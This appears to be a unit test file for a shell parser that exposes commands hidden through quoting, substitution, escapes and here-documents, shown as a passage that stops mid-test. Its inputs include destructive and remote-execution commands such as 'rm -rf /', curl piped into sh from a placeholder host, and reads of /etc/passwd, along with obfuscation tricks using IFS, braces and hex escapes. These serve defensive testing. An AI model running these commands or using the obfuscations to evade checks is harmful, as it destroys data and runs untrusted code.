// Unit tests for the shell parser (core/shell_parse.*).
#include <criterion/criterion.h>

#include <deque>
#include <string>
#include <vector>

#include "core/shell_parse.h"

using namespace vg;

namespace {

std::string join(const std::vector<Word>& words) {
  std::string out;
  for (const Word& w : words) {
    if (!out.empty()) out += '|';
    out += w.value;
  }
  return out;
}

const Command& command_at(const ParseResult& r, size_t item, size_t pipeline = 0, size_t cmd = 0) {
  cr_assert_lt(item, r.script.items.size(), "no item %zu", item);
  const AndOr& a = r.script.items[item];
  cr_assert_lt(pipeline, a.pipelines.size(), "no pipeline %zu", pipeline);
  cr_assert_lt(cmd, a.pipelines[pipeline].commands.size(), "no command %zu", cmd);
  return a.pipelines[pipeline].commands[cmd];
}

const SimpleCommand& simple_at(const ParseResult& r, size_t item = 0, size_t pipeline = 0, size_t cmd = 0) {
  const Command& c = command_at(r, item, pipeline, cmd);
  cr_assert_eq(static_cast<int>(c.kind), static_cast<int>(CommandKind::Simple));
  return c.simple;
}

// argv values of the first simple command, joined by '|'.
std::string argv0(const ParseResult& r) { return join(simple_at(r).words); }

const Word& word_at(const ParseResult& r, size_t index) {
  const SimpleCommand& sc = simple_at(r);
  cr_assert_lt(index, sc.words.size(), "no word %zu", index);
  return sc.words[index];
}

void collect(const Script& s, std::vector<std::string>& out);

void collect_word(const Word& w, std::vector<std::string>& out) {
  for (const WordPart& p : w.parts)
    if (p.script) collect(*p.script, out);
}

void collect_command(const Command& c, std::vector<std::string>& out) {
  for (const Word& w : c.simple.assignments) collect_word(w, out);
  if (!c.simple.words.empty()) out.push_back(join(c.simple.words));
  for (const Word& w : c.simple.words) collect_word(w, out);
  for (const Word& w : c.words) collect_word(w, out);
  for (const auto& redirects : {&c.simple.redirects, &c.redirects})
    for (const Redirect& r : *redirects) {
      collect_word(r.target, out);
      for (const WordPart& p : r.heredoc_parts)
        if (p.script) collect(*p.script, out);
    }
  for (const auto& b : c.bodies) collect(*b, out);
}

// Every simple command in the tree (nested ones too), as argv joined by '|'.
void collect(const Script& s, std::vector<std::string>& out) {
  for (const AndOr& a : s.items)
    for (const Pipeline& p : a.pipelines)
      for (const Command& c : p.commands) collect_command(c, out);
}

std::vector<std::string> all_commands(const ParseResult& r) {
  std::vector<std::string> out;
  collect(r.script, out);
  return out;
}

bool has_command(const ParseResult& r, const std::string& argv) {
  for (const std::string& c : all_commands(r))
    if (c == argv) return true;
  return false;
}

// Results live until the test ends, so references into them stay valid.
const ParseResult& keep(ParseResult r) {
  static std::deque<ParseResult> results;
  results.push_back(std::move(r));
  return results.back();
}

const ParseResult& ok(const char* src) {
  const ParseResult& r = keep(parse_shell(src));
  cr_assert(r.ok, "parse of [%s] failed: %s", src, r.error.c_str());
  return r;
}

const ParseResult& bad(const char* src) {
  const ParseResult& r = keep(parse_shell(src));
  cr_assert_not(r.ok, "parse of [%s] should fail", src);
  cr_assert_neq(r.error.size(), 0u);
  cr_assert_geq(r.error_line, 1);
  return r;
}

bool has_part(const Word& w, PartKind kind) {
  for (const WordPart& p : w.parts)
    if (p.kind == kind) return true;
  return false;
}

const WordPart& part_of(const Word& w, PartKind kind) {
  for (const WordPart& p : w.parts)
    if (p.kind == kind) return p;
  cr_assert_fail("word [%s] has no part of kind %d", w.raw.c_str(), static_cast<int>(kind));
  return w.parts.front();
}

// Binds the actual string first: cr_assert_str_eq would keep a dangling c_str().
#define EXPECT_STR(actual, expected)          \
  do {                                        \
    const std::string actual_ = (actual);     \
    cr_assert_str_eq(actual_.c_str(), expected); \
  } while (0)
#define EXPECT_ARGV(src, expected) EXPECT_STR(argv0(ok(src)), expected)

}  // namespace

// ---- simple words and quote removal -------------------------------------------

Test(words, plain_command) { EXPECT_ARGV("ls -la /tmp", "ls|-la|/tmp"); }
Test(words, extra_blanks_and_tabs) { EXPECT_ARGV("  ls \t -l   x  ", "ls|-l|x"); }
Test(words, empty_input) { cr_assert_eq(ok("").script.items.size(), 0u); }
Test(words, only_blanks_and_newlines) { cr_assert_eq(ok("  \n\n \t\n").script.items.size(), 0u); }
Test(words, double_quoted_is_one_argument) {
  const ParseResult& r = ok("echo \"rm -rf /\"");
  cr_assert_eq(r.script.items.size(), 1u);
  cr_assert_eq(simple_at(r).words.size(), 2u);
  EXPECT_STR(argv0(r), "echo|rm -rf /");
}
Test(words, single_quoted) { EXPECT_ARGV("echo 'a  b' 'c\"d'", "echo|a  b|c\"d"); }
Test(words, single_quote_keeps_backslash_and_dollar) { EXPECT_ARGV("echo '\\n $HOME'", "echo|\\n $HOME"); }
Test(words, quote_splitting_single) { EXPECT_ARGV("r''m -rf /", "rm|-rf|/"); }
Test(words, quote_splitting_double) { EXPECT_ARGV("\"r\"m -r\"f\" /", "rm|-rf|/"); }
Test(words, quote_splitting_mixed) { EXPECT_ARGV("'r'\"m\" x", "rm|x"); }
Test(words, backslash_letters) { EXPECT_ARGV("\\r\\m -rf /", "rm|-rf|/"); }
Test(words, backslash_space_joins) { EXPECT_ARGV("touch a\\ b", "touch|a b"); }
Test(words, backslash_in_double_quotes_special) { EXPECT_ARGV("echo \"a\\\"b\\$c\\\\d\\`e\"", "echo|a\"b$c\\d`e"); }
Test(words, backslash_in_double_quotes_ordinary) { EXPECT_ARGV("echo \"a\\nb\"", "echo|a\\nb"); }
Test(words, escaped_is_quoted_part) {
  const ParseResult& r = ok("echo \\*");
  cr_assert_not(word_at(r, 1).dynamic());
  EXPECT_STR(word_at(r, 1).value, "*");
}
Test(words, empty_quotes_are_words) {
  const ParseResult& r = ok("printf '' \"\"");
  cr_assert_eq(simple_at(r).words.size(), 3u);
  EXPECT_STR(word_at(r, 1).value, "");
}
Test(words, raw_is_source_text) {
  const ParseResult& r = ok("echo \"$HOME\"/x");
  EXPECT_STR(word_at(r, 1).raw, "\"$HOME\"/x");
  EXPECT_STR(word_at(r, 1).value, "$HOME/x");
}
Test(words, hash_inside_word) { EXPECT_ARGV("echo a#b", "echo|a#b"); }
Test(words, comment_after_word) { EXPECT_ARGV("echo a # rm -rf /", "echo|a"); }
Test(words, comment_line) { cr_assert_eq(ok("# only a comment").script.items.size(), 0u); }
Test(words, quoted_hash_not_comment) { EXPECT_ARGV("echo '#x' \"#y\"", "echo|#x|#y"); }
Test(words, literal_word_not_dynamic) { cr_assert_not(word_at(ok("echo abc"), 1).dynamic()); }
Test(words, trailing_backslash_kept) { EXPECT_ARGV("echo a\\", "echo|a\\"); }
Test(words, non_ascii_bytes) { EXPECT_ARGV("echo h\xc3\xa9llo", "echo|h\xc3\xa9llo"); }

// ---- ANSI-C and locale strings ---------------------------------------------------

Test(ansi_c, hex_escapes) { EXPECT_ARGV("$'\\x72\\x6d' -rf /", "rm|-rf|/"); }
Test(ansi_c, simple_escapes) { EXPECT_ARGV("echo $'a\\tb\\nc\\\\d\\'e\\\"f'", "echo|a\tb\nc\\d'e\"f"); }
Test(ansi_c, bell_backspace_formfeed_cr_vtab) { EXPECT_ARGV("echo $'\\a\\b\\f\\r\\v'", "echo|\a\b\f\r\v"); }
Test(ansi_c, escape_char) { EXPECT_ARGV("echo $'\\e[0m'", "echo|\x1b[0m"); }
Test(ansi_c, octal) { EXPECT_ARGV("echo $'\\162\\155'", "echo|rm"); }
Test(ansi_c, octal_with_leading_zero_takes_three_digits) { EXPECT_ARGV("echo $'\\0101'", "echo|\b1"); }
Test(ansi_c, nul_ends_string) { EXPECT_ARGV("echo $'r\\0m'", "echo|r"); }
Test(ansi_c, unicode_u) { EXPECT_ARGV("echo $'\\u00e9'", "echo|\xc3\xa9"); }
Test(ansi_c, unicode_big_u) { EXPECT_ARGV("echo $'\\U0001F600'", "echo|\xf0\x9f\x98\x80"); }
Test(ansi_c, control_char) { EXPECT_ARGV("echo $'\\cA'", "echo|\x01"); }
Test(ansi_c, unknown_escape_kept) { EXPECT_ARGV("echo $'\\q'", "echo|\\q"); }
Test(ansi_c, is_quoted_literal) {
  const ParseResult& r = ok("$'\\x2a'");
  cr_assert_not(word_at(r, 0).dynamic());
  cr_assert(word_at(r, 0).parts[0].quoted);
}
Test(ansi_c, joined_with_plain_text) { EXPECT_ARGV("r$'\\x6d' x", "rm|x"); }
Test(ansi_c, literal_inside_double_quotes) { EXPECT_ARGV("echo \"$'x'\"", "echo|$'x'"); }
Test(locale, dollar_double_quote) { EXPECT_ARGV("echo $\"hello world\"", "echo|hello world"); }

// ---- line continuation -------------------------------------------------------------

Test(continuation, between_words) { EXPECT_ARGV("rm \\\n-rf \\\n/", "rm|-rf|/"); }
Test(continuation, inside_word) { EXPECT_ARGV("r\\\nm -rf /", "rm|-rf|/"); }
Test(continuation, inside_double_quotes) { EXPECT_ARGV("echo \"a\\\nb\"", "echo|ab"); }
Test(continuation, kept_in_single_quotes) { EXPECT_ARGV("echo 'a\\\nb'", "echo|a\\\nb"); }
Test(continuation, inside_operator) {
  const ParseResult& r = ok("a &\\\n& b");
  cr_assert_eq(r.script.items[0].pipelines.size(), 2u);
  EXPECT_STR(r.script.items[0].ops[0], "&&");
}
Test(continuation, line_numbers_advance) {
  const ParseResult& r = ok("a \\\nb\nc");
  cr_assert_eq(r.script.items[1].line, 3);
}

// ---- parameters -----------------------------------------------------------------------

Test(params, simple_name) {
  const ParseResult& r = ok("echo $HOME");
  cr_assert(word_at(r, 1).dynamic());
  EXPECT_STR(part_of(word_at(r, 1), PartKind::Param).text, "HOME");
}
Test(params, braced) { EXPECT_STR(part_of(word_at(ok("echo ${HOME}x"), 1), PartKind::Param).text, "HOME"); }
Test(params, value_keeps_source_form) { EXPECT_STR(word_at(ok("echo ${HOME:-/root}/x"), 1).value, "${HOME:-/root}/x"); }
Test(params, positional_and_special) {
  const char* names[] = {"1", "@", "*", "#", "?", "$", "!", "-", "0"};
  const char* srcs[] = {"echo $1", "echo $@", "echo $*", "echo $#", "echo $?", "echo $$", "echo $!", "echo $-", "echo $0"};
  for (int i = 0; i < 9; ++i) {
    const ParseResult& r = ok(srcs[i]);
    EXPECT_STR(part_of(word_at(r, 1), PartKind::Param).text, names[i]);
  }
}
Test(params, quoted_param_is_quoted) {
  const Word& w = word_at(ok("echo \"$x\""), 1);
  cr_assert(part_of(w, PartKind::Param).quoted);
}
Test(params, unquoted_param_not_quoted) { cr_assert_not(part_of(word_at(ok("echo $x"), 1), PartKind::Param).quoted); }
Test(params, nested_braces_and_quotes) {
  const ParseResult& r = ok("echo ${x:-\"a}b\"} end");
  EXPECT_STR(argv0(r), "echo|${x:-\"a}b\"}|end");
}
Test(params, nested_param_default) {
  const ParseResult& r = ok("echo ${A:-${B:-c}}");
  cr_assert_eq(simple_at(r).words.size(), 2u);
  EXPECT_STR(part_of(word_at(r, 1), PartKind::Param).text, "A");
}
Test(params, length_and_indirection) {
  EXPECT_STR(part_of(word_at(ok("echo ${#PATH}"), 1), PartKind::Param).text, "PATH");
  EXPECT_STR(part_of(word_at(ok("echo ${!ref}"), 1), PartKind::Param).text, "ref");
}
Test(params, command_in_default_is_visible) { cr_assert(has_command(ok("echo ${X:-$(rm -rf /)}"), "rm|-rf|/")); }
Test(params, ifs_obfuscation) {
  const ParseResult& r = ok("rm${IFS}-rf${IFS}/");
  cr_assert_eq(simple_at(r).words.size(), 1u);
  cr_assert(word_at(r, 0).dynamic());
  EXPECT_STR(word_at(r, 0).value, "rm${IFS}-rf${IFS}/");
}
Test(params, ifs_plain_obfuscation) {
  const Word& w = word_at(ok("cat$IFS/etc/passwd"), 0);
  EXPECT_STR(part_of(w, PartKind::Param).text, "IFS");
}
Test(params, lone_dollar_is_literal) { EXPECT_ARGV("echo $ a$", "echo|$|a$"); }
Test(params, program_from_variable_is_dynamic) { cr_assert(word_at(ok("$CMD -rf /"), 0).dynamic()); }

// ---- command, process and arithmetic substitution ----------------------------------------------

Test(subst, dollar_paren_parsed) {
  const ParseResult& r = ok("echo $(rm -rf /)");
  const WordPart& p = part_of(word_at(r, 1), PartKind::CommandSubst);
  EXPECT_STR(p.text, "rm -rf /");
  cr_assert(p.script != nullptr);
  cr_assert(has_command(r, "rm|-rf|/"));
}
Test(subst, nested_dollar_paren) {
  const ParseResult& r = ok("echo $(echo $(whoami) $(id -u))");
  cr_assert(has_command(r, "whoami"));
  cr_assert(has_command(r, "id|-u"));
}
Test(subst, backquotes) {
  const ParseResult& r = ok("echo `uname -a`");
  EXPECT_STR(part_of(word_at(r, 1), PartKind::CommandSubst).text, "uname -a");
  cr_assert(has_command(r, "uname|-a"));
}
Test(subst, nested_backquotes_unescaped) {
  const ParseResult& r = ok("echo `echo \\`date\\``");
  cr_assert(has_command(r, "date"));
}
Test(subst, backquotes_inside_dollar_paren) { cr_assert(has_command(ok("x=$(echo `hostname`)"), "hostname")); }
Test(subst, dollar_paren_inside_backquotes) { cr_assert(has_command(ok("echo `echo $(id)`"), "id")); }
Test(subst, in_double_quotes) {
  const ParseResult& r = ok("echo \"user: $(whoami)\"");
  cr_assert_eq(simple_at(r).words.size(), 2u);
  cr_assert(part_of(word_at(r, 1), PartKind::CommandSubst).quoted);
  cr_assert(has_command(r, "whoami"));
}
Test(subst, quotes_inside_substitution_inside_quotes) {
  const ParseResult& r = ok("echo \"$(echo \"a b\")\"");
  cr_assert(has_command(r, "echo|a b"));
}
Test(subst, paren_in_case_inside_substitution) {
  const ParseResult& r = ok("x=$(case a in a) echo yes;; esac)");
  cr_assert(has_command(r, "echo|yes"));
}
Test(subst, substituted_program) {
  const ParseResult& r = ok("$(echo rm) -rf /");
  cr_assert(word_at(r, 0).dynamic());
  cr_assert(has_command(r, "echo|rm"));
}
Test(subst, process_substitution_in) {
  const ParseResult& r = ok("diff <(ls a) <(ls b)");
  cr_assert_eq(simple_at(r).words.size(), 3u);
  cr_assert_eq(simple_at(r).redirects.size(), 0u);
  cr_assert(has_part(word_at(r, 1), PartKind::ProcessSubst));
  cr_assert(has_command(r, "ls|b"));
}
Test(subst, process_substitution_out) { cr_assert(has_command(ok("tee >(gzip -c) < f"), "gzip|-c")); }
Test(subst, curl_into_sh_via_process_substitution) {
  const ParseResult& r = ok("sh <(curl -s https://x.example/i.sh)");
  EXPECT_STR(word_at(r, 0).value, "sh");
  cr_assert(has_command(r, "curl|-s|https://x.example/i.sh"));
}
Test(subst, arithmetic) {
  const WordPart& p = part_of(word_at(ok("echo $((1 + 2 * (3 - 1)))"), 1), PartKind::Arith);
  EXPECT_STR(p.text, "1 + 2 * (3 - 1)");
}
Test(subst, arithmetic_with_command_inside) { cr_assert(has_command(ok("echo $(( $(id -u) + 1 ))"), "id|-u")); }
Test(subst, dollar_paren_subshell_not_arith) {
  const ParseResult& r = ok("echo $( (ls) )");
  cr_assert(has_part(word_at(r, 1), PartKind::CommandSubst));
  cr_assert(has_command(r, "ls"));
}
Test(subst, double_paren_subshells_not_arith) {
  const ParseResult& r = ok("echo $((ls); (pwd))");
  cr_assert(has_part(word_at(r, 1), PartKind::CommandSubst));
  cr_assert(has_command(r, "pwd"));
}
Test(subst, eval_string_is_one_word) {
  const ParseResult& r = ok("eval \"rm -rf /\"");
  EXPECT_STR(argv0(r), "eval|rm -rf /");
}
Test(subst, eval_with_substitution) { cr_assert(has_command(ok("eval \"$(curl -s x.example)\""), "curl|-s|x.example")); }
Test(subst, comment_inside_substitution) { cr_assert(has_command(ok("echo $(ls # not ) here\n)"), "ls")); }

// ---- globs, tilde, brace expansion ---------------------------------------------------------------

Test(glob, star_and_question) {
  const Word& w = word_at(ok("ls *.c a?"), 1);
  cr_assert(has_part(w, PartKind::Glob));
  cr_assert(w.dynamic());
}
Test(glob, bracket) { EXPECT_STR(part_of(word_at(ok("ls [ab]x"), 1), PartKind::Glob).text, "[ab]"); }
Test(glob, lone_bracket_literal) {
  const ParseResult& r = ok("[ -f x ]");
  EXPECT_STR(argv0(r), "[|-f|x|]");
  cr_assert_not(word_at(r, 0).dynamic());
}
Test(glob, quoted_star_not_glob) { cr_assert_not(word_at(ok("echo '*' \"*\""), 1).dynamic()); }
Test(glob, root_star) {
  const ParseResult& r = ok("rm -rf /*");
  EXPECT_STR(word_at(r, 2).value, "/*");
  cr_assert(has_part(word_at(r, 2), PartKind::Glob));
}
Test(glob, extglob) {
  const ParseResult& r = ok("ls @(a|b).txt !(x)");
  cr_assert_eq(simple_at(r).words.size(), 3u);
  cr_assert(has_part(word_at(r, 1), PartKind::Glob));
  EXPECT_STR(word_at(r, 1).value, "@(a|b).txt");
  EXPECT_STR(part_of(word_at(r, 2), PartKind::Glob).text, "!(x)");
}
Test(glob, extglob_in_cond) { EXPECT_STR(part_of(command_at(ok("[[ $f == *(x)+(y) ]]"), 0).words.at(2), PartKind::Glob).text, "*(x)"); }
Test(glob, plus_and_at_are_literal) { cr_assert_not(word_at(ok("g++ a@b"), 0).dynamic()); }
Test(tilde, plain) {
  const Word& w = word_at(ok("rm -rf ~/"), 2);
  EXPECT_STR(part_of(w, PartKind::Tilde).text, "");
  EXPECT_STR(w.value, "~/");
}
Test(tilde, alone) { cr_assert(has_part(word_at(ok("cd ~"), 1), PartKind::Tilde)); }
Test(tilde, user) { EXPECT_STR(part_of(word_at(ok("ls ~root/x"), 1), PartKind::Tilde).text, "root"); }
Test(tilde, quoted_not_tilde) { cr_assert_not(word_at(ok("ls '~' \"~\""), 1).dynamic()); }
Test(tilde, middle_not_tilde) { cr_assert_not(word_at(ok("echo a~b"), 1).dynamic()); }
Test(tilde, in_assignment_after_equals_and_colon) {
  const Word& w = simple_at(ok("PATH=~/bin:~root/x cmd")).assignments.at(0);
  int tildes = 0;
  for (const WordPart& p : w.parts) tildes += p.kind == PartKind::Tilde;
  cr_assert_eq(tildes, 2);
}
Test(brace, comma_list) { EXPECT_STR(part_of(word_at(ok("echo {a,b}c"), 1), PartKind::BraceExpand).text, "{a,b}"); }
Test(brace, sequence) { cr_assert(has_part(word_at(ok("echo {1..10}"), 1), PartKind::BraceExpand)); }
Test(brace, single_item_literal) { cr_assert_not(word_at(ok("echo {x}"), 1).dynamic()); }
Test(brace, empty_braces_literal) { EXPECT_ARGV("find . -exec rm {} ;", "find|.|-exec|rm|{}"); }
Test(brace, quoted_not_expanded) { cr_assert_not(word_at(ok("echo '{a,b}'"), 1).dynamic()); }
Test(brace, obfuscated_command) {
  const ParseResult& r = ok("{rm,-rf,/}");
  cr_assert_eq(simple_at(r).words.size(), 1u);
  cr_assert(word_at(r, 0).dynamic());
}

// ---- assignments ------------------------------------------------------------------------------

Test(assign, leading_assignments) {
  const ParseResult& r = ok("A=1 B=two cmd arg");
  EXPECT_STR(join(simple_at(r).assignments), "A=1|B=two");
  EXPECT_STR(argv0(r), "cmd|arg");
}
Test(assign, only_assignment) {
  const ParseResult& r = ok("X=1");
  cr_assert_eq(simple_at(r).words.size(), 0u);
  cr_assert_eq(simple_at(r).assignments.size(), 1u);
}
Test(assign, append) { EXPECT_STR(simple_at(ok("X+=y")).assignments.at(0).value, "X+=y"); }
Test(assign, after_command_is_word) {
  const ParseResult& r = ok("env A=1 cmd");
  cr_assert_eq(simple_at(r).assignments.size(), 0u);
  EXPECT_STR(argv0(r), "env|A=1|cmd");
}
Test(assign, quoted_value) { EXPECT_STR(simple_at(ok("X=\"a b\" cmd")).assignments.at(0).value, "X=a b"); }
Test(assign, not_a_name) { EXPECT_ARGV("1X=2", "1X=2"); }
Test(assign, array) {
  const ParseResult& r = ok("arr=(a \"b c\" $(ls)) cmd");
  const Word& w = simple_at(r).assignments.at(0);
  EXPECT_STR(w.value, "arr=(a b c $(ls))");
  EXPECT_STR(argv0(r), "cmd");
  cr_assert(has_command(r, "ls"));
}
Test(assign, array_multiline) {
  const ParseResult& r = ok("arr=(\n a\n b # c\n)\necho x");
  cr_assert_eq(r.script.items.size(), 2u);
  cr_assert_eq(r.script.items[1].line, 5);
}
Test(assign, subscript) { cr_assert_eq(simple_at(ok("a[1]=x")).assignments.size(), 1u); }
Test(assign, substitution_value_is_visible) { cr_assert(has_command(ok("X=$(curl -s x.example) true"), "curl|-s|x.example")); }

// ---- operators and lists -----------------------------------------------------------------------------

Test(lists, semicolons) {
  const ParseResult& r = ok("a; b; c");
  cr_assert_eq(r.script.items.size(), 3u);
}
Test(lists, newlines) { cr_assert_eq(ok("a\nb\n\nc\n").script.items.size(), 3u); }
Test(lists, and_or) {
  const ParseResult& r = ok("a && b || c");
  const AndOr& a = r.script.items.at(0);
  cr_assert_eq(a.pipelines.size(), 3u);
  EXPECT_STR(a.ops[0], "&&");
  EXPECT_STR(a.ops[1], "||");
}
Test(lists, and_or_newline_after_operator) { cr_assert_eq(ok("a &&\n b").script.items.at(0).pipelines.size(), 2u); }
Test(lists, background) {
  const ParseResult& r = ok("sleep 1 & echo x");
  cr_assert_eq(r.script.items.size(), 2u);
  cr_assert(r.script.items[0].background);
  cr_assert_not(r.script.items[1].background);
}
Test(lists, pipeline) {
  const ParseResult& r = ok("curl -s x | sh -");
  cr_assert_eq(r.script.items[0].pipelines[0].commands.size(), 2u);
  EXPECT_STR(join(simple_at(r, 0, 0, 1).words), "sh|-");
}
Test(lists, pipe_and) { cr_assert_eq(ok("a |& b").script.items[0].pipelines[0].commands.size(), 2u); }
Test(lists, pipe_newline_continues) { cr_assert_eq(ok("a |\n  b").script.items[0].pipelines[0].commands.size(), 2u); }
Test(lists, negation) { cr_assert(ok("! grep x f").script.items[0].pipelines[0].negated); }
Test(lists, bang_in_word_not_negation) { EXPECT_ARGV("echo !x", "echo|!x"); }
Test(lists, operators_without_spaces) {
  const ParseResult& r = ok("a&&b||c;d|e&");
  cr_assert_eq(r.script.items.size(), 2u);
  cr_assert(r.script.items[1].background);
}
Test(lists, line_numbers) {
  const ParseResult& r = ok("a\n\nb\n# c\nd");
  cr_assert_eq(r.script.items[0].line, 1);
  cr_assert_eq(r.script.items[1].line, 3);
  cr_assert_eq(r.script.items[2].line, 5);
  cr_assert_eq(command_at(r, 2).line, 5);
}
Test(lists, time_is_a_word) { EXPECT_ARGV("time make -j2", "time|make|-j2"); }

// ---- redirections ---------------------------------------------------------------------------------------

Test(redirects, out_not_in_argv) {
  const ParseResult& r = ok("echo hi > out.txt");
  EXPECT_STR(argv0(r), "echo|hi");
  const Redirect& rd = simple_at(r).redirects.at(0);
  EXPECT_STR(rd.op, ">");
  cr_assert_eq(rd.fd, -1);
  EXPECT_STR(rd.target.value, "out.txt");
}
Test(redirects, fd_dup) {
  const Redirect& rd = simple_at(ok("cmd 2>&1")).redirects.at(0);
  cr_assert_eq(rd.fd, 2);
  EXPECT_STR(rd.op, ">&");
  EXPECT_STR(rd.target.value, "1");
}
Test(redirects, stderr_to_null) {
  const ParseResult& r = ok("cmd 2>/dev/null arg");
  EXPECT_STR(argv0(r), "cmd|arg");
  cr_assert_eq(simple_at(r).redirects.at(0).fd, 2);
}
Test(redirects, all_operators) {
  const ParseResult& r = ok("c <in >out >>app <>rw >|clob &>both &>>bothapp <&3 >&- <<<here");
  const char* ops[] = {"<", ">", ">>", "<>", ">|", "&>", "&>>", "<&", ">&", "<<<"};
  cr_assert_eq(simple_at(r).redirects.size(), 10u);
  for (int i = 0; i < 10; ++i) EXPECT_STR(simple_at(r).redirects[i].op, ops[i]);
  EXPECT_STR(argv0(r), "c");
}
Test(redirects, before_command) {
  const ParseResult& r = ok(">out echo hi");
  EXPECT_STR(argv0(r), "echo|hi");
  cr_assert_eq(simple_at(r).redirects.size(), 1u);
}
Test(redirects, fd_variable) {
  const Redirect& rd = simple_at(ok("exec {fd}>log")).redirects.at(0);
  EXPECT_STR(rd.fd_var, "fd");
  EXPECT_STR(rd.target.value, "log");
}
Test(redirects, digits_inside_word_are_not_fd) {
  const ParseResult& r = ok("echo a2>x");
  EXPECT_STR(argv0(r), "echo|a2");
  cr_assert_eq(simple_at(r).redirects.at(0).fd, -1);
}
Test(redirects, here_string) {
  const Redirect& rd = simple_at(ok("bash <<< \"rm -rf /\"")).redirects.at(0);
  EXPECT_STR(rd.op, "<<<");
  EXPECT_STR(rd.target.value, "rm -rf /");
}
Test(redirects, quoted_target) { EXPECT_STR(simple_at(ok("cat > 'my file'")).redirects.at(0).target.value, "my file"); }
Test(redirects, on_compound_command) {
  const ParseResult& r = ok("{ a; b; } > out 2>&1");
  cr_assert_eq(command_at(r, 0).redirects.size(), 2u);
}
Test(redirects, target_with_substitution) { cr_assert(has_command(ok("echo x > $(mktemp)"), "mktemp")); }

// ---- here-documents -----------------------------------------------------------------------------------------

Test(heredoc, body_collected) {
  const ParseResult& r = ok("cat <<EOF\nline1\nline2\nEOF\necho after");
  const Redirect& rd = simple_at(r).redirects.at(0);
  EXPECT_STR(rd.op, "<<");
  EXPECT_STR(rd.heredoc, "line1\nline2\n");
  cr_assert(rd.heredoc_expands);
  cr_assert_eq(r.script.items.size(), 2u);
  EXPECT_STR(join(simple_at(r, 1).words), "echo|after");
  cr_assert_eq(r.script.items[1].line, 5);
}
Test(heredoc, quoted_delimiter_no_expansion) {
  const ParseResult& r = ok("cat <<'EOF'\n$(rm -rf /)\nEOF");
  const Redirect& rd = simple_at(r).redirects.at(0);
  cr_assert_not(rd.heredoc_expands);
  cr_assert_eq(rd.heredoc_parts.size(), 0u);
  cr_assert_not(has_command(r, "rm|-rf|/"));
}
Test(heredoc, double_quoted_and_escaped_delimiters) {
  cr_assert_not(simple_at(ok("cat <<\"E\"\nx\nE")).redirects.at(0).heredoc_expands);
  cr_assert_not(simple_at(ok("cat <<\\E\nx\nE")).redirects.at(0).heredoc_expands);
}
Test(heredoc, expansions_in_body_visible) {
  const ParseResult& r = ok("cat <<EOF\nhello $(rm -rf /) `id` $HOME\nEOF");
  const Redirect& rd = simple_at(r).redirects.at(0);
  cr_assert_eq(rd.heredoc_parts.size(), 3u);
  cr_assert(has_command(r, "rm|-rf|/"));
  cr_assert(has_command(r, "id"));
}
Test(heredoc, tab_stripping) {
  const Redirect& rd = simple_at(ok("cat <<-EOF\n\t\tindented\n\tEOF")).redirects.at(0);
  EXPECT_STR(rd.op, "<<-");
  EXPECT_STR(rd.heredoc, "indented\n");
}
Test(heredoc, two_on_one_line) {
  const ParseResult& r = ok("cat <<A <<B\na body\nA\nb body\nB\n");
  const SimpleCommand& sc = simple_at(r);
  EXPECT_STR(sc.redirects.at(0).heredoc, "a body\n");
  EXPECT_STR(sc.redirects.at(1).heredoc, "b body\n");
}
Test(heredoc, two_commands_on_one_line) {
  const ParseResult& r = ok("cat <<A; cat <<B\n1\nA\n2\nB\necho end");
  EXPECT_STR(simple_at(r, 0).redirects.at(0).heredoc, "1\n");
  EXPECT_STR(simple_at(r, 1).redirects.at(0).heredoc, "2\n");
  EXPECT_STR(join(simple_at(r, 2).words), "echo|end");
}
Test(heredoc, body_is_not_commands) {
  const ParseResult& r = ok("cat <<EOF\nrm -rf /\nEOF");
  cr_assert_eq(r.script.items.size(), 1u);
  cr_assert_not(has_command(r, "rm|-rf|/"));
}
Test(heredoc, piped_into_shell) {
  const ParseResult& r = ok("cat <<EOF | sh\nrm -rf /\nEOF\n");
  cr_assert_eq(r.script.items[0].pipelines[0].commands.size(), 2u);
  EXPECT_STR(simple_at(r).redirects.at(0).heredoc, "rm -rf /\n");
}
Test(heredoc, inside_compound_command) {
  const ParseResult& r = ok("if true; then\ncat <<EOF\nbody\nEOF\nfi\n");
  const Command& c = command_at(r, 0);
  const SimpleCommand& inner = c.bodies.at(1)->items.at(0).pipelines.at(0).commands.at(0).simple;
  EXPECT_STR(inner.redirects.at(0).heredoc, "body\n");
}
Test(heredoc, inside_command_substitution) {
  const ParseResult& r = ok("x=$(cat <<EOF\ninner\nEOF\n)\necho $x");
  cr_assert_eq(r.script.items.size(), 2u);
}
Test(heredoc, on_loop) {
  const ParseResult& r = ok("while read l; do echo $l; done <<EOF\na\nEOF\n");
  EXPECT_STR(command_at(r, 0).redirects.at(0).heredoc, "a\n");
}
Test(heredoc, delimiter_must_be_whole_line) {
  const ParseResult& r = ok("cat <<EOF\nEOF x\n EOF\nEOF\n");
  EXPECT_STR(simple_at(r).redirects.at(0).heredoc, "EOF x\n EOF\n");
}

// ---- compound commands ---------------------------------------------------------------------------------------------

Test(compound, if_elif_else) {
  const ParseResult& r = ok("if a; then b; elif c; then d; else e; fi");
  const Command& c = command_at(r, 0);
  cr_assert_eq(static_cast<int>(c.kind), static_cast<int>(CommandKind::If));
  cr_assert_eq(c.bodies.size(), 5u);
  cr_assert(has_command(r, "e"));
}
Test(compound, if_multiline) {
  const ParseResult& r = ok("if [ -f x ]\nthen\n  rm x\nfi\necho done");
  cr_assert_eq(r.script.items.size(), 2u);
  cr_assert(has_command(r, "rm|x"));
  cr_assert(has_command(r, "[|-f|x|]"));
}
Test(compound, reserved_word_as_argument) { EXPECT_ARGV("echo if then fi done", "echo|if|then|fi|done"); }
Test(compound, for_in) {
  const Command& c = command_at(ok("for f in a b c; do rm $f; done"), 0);
  cr_assert_eq(static_cast<int>(c.kind), static_cast<int>(CommandKind::For));
  EXPECT_STR(c.name, "f");
  EXPECT_STR(join(c.words), "a|b|c");
  cr_assert_eq(c.bodies.size(), 1u);
}
Test(compound, for_without_in) {
  const Command& c = command_at(ok("for a; do echo $a; done"), 0);
  EXPECT_STR(c.name, "a");
  cr_assert_eq(c.words.size(), 0u);
}
Test(compound, for_multiline) {
  const ParseResult& r = ok("for x in 1 2\ndo\n  echo $x\ndone");
  cr_assert_eq(command_at(r, 0).words.size(), 2u);
}
Test(compound, c_style_for) {
  const Command& c = command_at(ok("for ((i=0; i<3; i++)); do echo $i; done"), 0);
  cr_assert_eq(static_cast<int>(c.kind), static_cast<int>(CommandKind::For));
  EXPECT_STR(c.words.at(0).value, "i=0; i<3; i++");
}
Test(compound, while_loop) {
  const Command& c = command_at(ok("while true; do sleep 1; done"), 0);
  cr_assert_eq(static_cast<int>(c.kind), static_cast<int>(CommandKind::While));
